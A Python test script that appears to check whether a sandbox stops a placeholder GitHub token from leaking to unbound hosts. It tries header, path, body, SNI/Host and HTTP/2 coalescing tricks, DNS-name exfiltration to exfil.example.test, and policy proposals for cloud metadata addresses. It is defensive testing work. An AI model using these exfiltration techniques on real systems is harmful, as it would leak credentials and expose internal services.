"""Attempts to move a credential somewhere it is not bound, run in a sandbox.

The sandbox holds the placeholder in $GITHUB_TOKEN; the provider binds the
real value to api.github.com:443 only. other.example.test is allowed by
policy but binds nothing, and both are served by an upstream that mirrors
what it received under /mirror/ (headers, authority, body). Each attempt
prints one JSON line: {"attempt", "kind", "control", "reply"}; the test
looks for the real value in the replies. The control attempt is the
legitimate use, whose mirror must show the value (so the search can fail).

Two more kinds: "name", data smuggled out in DNS query names (the agent
must answer them itself, asking no resolver), and "proposal", rules for
metadata and link-local targets proposed through policy.local (each must
be refused).
"""

import json
import socket
import ssl
import subprocess
import urllib.error
import urllib.request

TOKEN = __import__("os").environ["GITHUB_TOKEN"]
BOUND, UNBOUND = "api.github.com", "other.example.test"
ENCODED = TOKEN.replace(":", "%3A")


def report(name, reply, control=False, kind="secret"):
    print(json.dumps({"attempt": name, "kind": kind, "control": control, "reply": reply}), flush=True)


def fetch(url, headers=None, body=None):
    req = urllib.request.Request(url, data=body, headers=headers or {}, method="POST" if body else "GET")
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return f"{r.status} {r.read().decode(errors='replace')}"
    except urllib.error.HTTPError as e:
        return f"{e.code} {e.read().decode(errors='replace')}"
    except OSError as e:
        return f"error {type(e).__name__}: {e}"


def raw_tls(connect_host, sni, request):
    """One request over TLS to `connect_host`'s address, with SNI `sni`."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    try:
        with socket.create_connection((connect_host, 443), timeout=10) as tcp:
            with ctx.wrap_socket(tcp, server_hostname=sni) as s:
                s.sendall(request.encode())
                got = b""
                while True:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    got += chunk
                return got.decode(errors="replace")
    except OSError as e:
        return f"error {type(e).__name__}: {e}"


def auth(value=TOKEN):
    return {"Authorization": f"Bearer {value}"}


H2_COALESCING = r"""
const http2 = require("http2");
const token = process.env.GITHUB_TOKEN;
const c = http2.connect("https://api.github.com");
c.on("error", e => { console.log(JSON.stringify({first: 0, second: "error " + e.message})); process.exit(0); });
function req(headers, cb) {
  const r = c.request(Object.assign({":path": headers.path, authorization: "Bearer " + token}, headers.h));
  let body = "", status = 0;
  r.on("response", h => { status = h[":status"]; });
  r.on("data", d => { body += d; });
  r.on("end", () => cb(status + " " + body));
  r.on("error", e => cb("error " + e.message));
  r.end();
}
req({path: "/mirror/first", h: {}}, first => {
  req({path: "/mirror/coalesced", h: {":authority": "other.example.test"}}, second => {
    req({path: "/mirror/split", h: {":authority": "other.example.test", host: "api.github.com"}}, third => {
      console.log(JSON.stringify({first, second, third}));
      c.close();
    });
  });
});
"""


def main():
    report("the bound host, as intended", fetch(f"https://{BOUND}/mirror/control", auth()), control=True)
    report("Authorization to an unbound host", fetch(f"https://{UNBOUND}/mirror/h", auth()))
    for header in ["X-Api-Key", "Cookie", "Proxy-Authorization", "X-Forwarded-Authorization"]:
        report(f"{header} to an unbound host", fetch(f"https://{UNBOUND}/mirror/h", {header: TOKEN}))
    report("query to an unbound host", fetch(f"https://{UNBOUND}/mirror/q?token={TOKEN}"))
    report("path to an unbound host", fetch(f"https://{UNBOUND}/mirror/{TOKEN}"))
    report("percent-encoded path to an unbound host", fetch(f"https://{UNBOUND}/mirror/{ENCODED}"))
    body = json.dumps({"note": TOKEN}).encode()
    report("body to the bound host", fetch(f"https://{BOUND}/mirror/body", {"Content-Type": "application/json"}, body))
    report("body to an unbound host", fetch(f"https://{UNBOUND}/mirror/body", {"Content-Type": "application/json"}, body))
    report("plain HTTP to the bound host", fetch(f"http://{BOUND}/mirror/plain", auth()))
    report(
        "SNI of the bound host, Host of an unbound one",
        raw_tls(BOUND, BOUND, f"GET /mirror/sni HTTP/1.1\r\nHost: {UNBOUND}\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"),
    )
    report(
        "SNI of an unbound host, Host of the bound one",
        raw_tls(UNBOUND, UNBOUND, f"GET /mirror/sni HTTP/1.1\r\nHost: {BOUND}\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"),
    )
    report(
        "two Host headers, the bound one first",
        raw_tls(BOUND, BOUND, f"GET /mirror/hosts HTTP/1.1\r\nHost: {BOUND}\r\nHost: {UNBOUND}\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"),
    )
    report(
        "absolute-form target naming an unbound host",
        raw_tls(BOUND, BOUND, f"GET https://{UNBOUND}/mirror/abs HTTP/1.1\r\nHost: {BOUND}\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"),
    )
    h2 = subprocess.run(["node", "-e", H2_COALESCING], capture_output=True, text=True, timeout=30)
    try:
        got = json.loads(h2.stdout)
    except ValueError:
        got = {"first": h2.stdout + h2.stderr, "second": "", "third": ""}
    report("HTTP/2 coalescing: a second :authority on the bound host's connection", got["second"])
    report("HTTP/2 :authority of an unbound host with Host of the bound one", got["third"])
    report("policy.local answers", fetch("http://policy.local/v1/denials?last=100"))

    for i, chunk in enumerate(["6768705f", "73656372", "65742121"]):
        name = f"{chunk}.{i}.exfil.example.test"
        try:
            addresses = sorted({a[4][0] for a in socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)})
        except OSError as e:
            addresses = [f"error {e}"]
        report(name, " ".join(addresses), kind="name")
    name = "636f6e6e656374.exfil.example.test"
    report(name, fetch(f"https://{name}/"), kind="name")

    for host in ["169.254.169.254", "metadata.google.internal", "fd00:ec2::254", "100.100.100.200",
                 "169.254.170.2", "fe80::1", "::ffff:169.254.169.254", "127.0.0.1", "localhost"]:
        rule = {"endpoints": [{"host": host, "port": 80}], "binaries": [{"path": "/usr/bin/curl"}]}
        body = json.dumps({"operations": [{"addRule": {"ruleName": "meta", "rule": rule}}]}).encode()
        reply = fetch("http://policy.local/v1/proposals", {"Content-Type": "application/json"}, body)
        report(f"propose {host}", reply, kind="proposal")


if __name__ == "__main__":
    main()
